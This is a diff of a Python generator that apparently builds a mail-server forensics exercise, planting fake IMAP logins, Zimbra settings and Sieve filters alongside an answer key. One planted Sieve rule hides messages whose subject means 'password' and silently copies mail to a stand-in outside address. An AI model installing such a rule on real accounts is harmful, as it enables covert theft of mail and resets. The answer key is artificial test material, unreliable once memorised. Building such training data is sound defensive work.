@@ -224,7 +224,9 @@ def _forwarding(place: Province, day: int, turn: int) -> None:
 
 def _legacy(place: Province, day: int, turn: int) -> None:
     person = place.people[place.pick(homeless=True)]
-    place.planted[day].append(auth(day * 86400 + 4 * 3600, person.box, f"2001:db8:6{50 + turn:03x}::1", "", protocol="imap"))
+    place.planted[day].append(
+        auth(day * 86400 + 4 * 3600, person.box, f"2001:db8:6{50 + turn:03x}::1", "", protocol="imap")
+    )
     place.answers[person.box].append("legacy-first")
 
 
@@ -342,7 +344,8 @@ def _settings(place: Province, target: Path) -> None:
     (target / "zmprov-gaa.txt").write_text("".join(settings))
     for turn in range(2):
         person = place.people[place.pick()]
-        text = 'require ["fileinto","copy"];\n# bo loc\nif anyof (header :contains ["subject"] "mật khẩu") {\n  fileinto "Trash";\n}\n'
+        text = 'require ["fileinto","copy"];\n# bo loc\n'
+        text += 'if anyof (header :contains ["subject"] "mật khẩu") {\n  fileinto "Trash";\n}\n'
         text += 'redirect :copy "kho@dontri.example";\n' if turn else ""
         (target / "sieve" / f"{person.box}.sieve").write_text(text)
         place.answers[person.box].extend(["filter-setting", "forward-setting"] if turn else ["filter-setting"])
